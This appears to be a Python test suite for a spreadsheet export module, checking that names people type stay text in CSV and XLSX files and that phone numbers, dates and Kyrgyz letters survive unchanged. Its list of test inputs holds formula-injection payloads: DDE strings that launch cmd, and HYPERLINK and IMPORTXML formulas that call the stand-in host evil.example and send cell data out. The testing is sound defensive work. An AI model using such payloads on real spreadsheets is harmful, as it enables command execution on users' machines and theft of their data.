"""The spreadsheet door: what people wrote is shown by office programs and never run."""

import csv
import io
from datetime import date

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from gals.reports.spreadsheet import BEGINNINGS, HARMLESS, harmless, rows_to_csv, rows_to_xlsx

FORMULAS = (
    "=1+1",
    '=HYPERLINK("http://evil.example","Айгүл")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "＝1+1",
    "=IMPORTXML(CONCAT(\"http://evil.example/\",A1),\"//a\")",
    "+996(312)61*2",
)


def reopened(content):
    return load_workbook(io.BytesIO(content))


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_in_a_name_stays_text_in_a_workbook(text):
    sheet = reopened(rows_to_xlsx({"People": [["Name"], [text]]}))["People"]
    assert sheet["A2"].data_type == "s"
    assert sheet["A2"].value.strip() == text.strip()


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_in_a_name_stays_text_in_a_csv_file(text):
    [[cell]] = csv.reader(io.StringIO(rows_to_csv([[text]]).decode("utf-8-sig"), newline=""))
    assert cell == "'" + text


@pytest.mark.parametrize("text", ["+996312611202", "-150", "-1 500,50", "-1500.5", "150", "Ак-Суу", "0555-12-34-56"])
def test_telephone_numbers_and_negative_sums_are_left_alone(text):
    assert harmless(text) == text
    assert reopened(rows_to_xlsx({"x": [["a"], [text]]})).active["A2"].value == text


def test_numbers_and_dates_stay_numbers_and_dates():
    sheet = reopened(rows_to_xlsx({"x": [["n", "d", "none", "yes"], [-150, date(2026, 5, 4), None, True]]})).active
    assert sheet["A2"].value == -150
    assert sheet["B2"].value.date() == date(2026, 5, 4)
    assert sheet["C2"].value is None
    assert sheet["D2"].value is True


def test_sheet_titles_may_be_anything_people_call_their_groups():
    titles = {"Кайненелер/келиндер [2026]: аялдар тобу, айыл": [], "Кайненелер/келиндер [2026]: аялдар тобу, шаар": [], "": []}
    book = reopened(rows_to_xlsx(titles))
    assert len(book.sheetnames) == 3
    assert all(0 < len(name) <= 31 for name in book.sheetnames)


def test_kyrgyz_letters_come_back_as_they_went_in():
    assert "Ңөү ҢӨҮ" in rows_to_csv([["Ңөү ҢӨҮ"]]).decode("utf-8-sig")


@given(st.text(max_size=60))
def test_no_text_whatever_becomes_a_formula(text):
    sheet = reopened(rows_to_xlsx({"x": [["heading"], [text]]})).active
    assert sheet["A2"].data_type in ("s", "inlineStr", "n")  # an empty cell has no type of its own
    assert sheet["A2"].value is None or isinstance(sheet["A2"].value, str)
    cell = harmless(text)
    assert not cell.startswith(BEGINNINGS) or HARMLESS.fullmatch(cell)
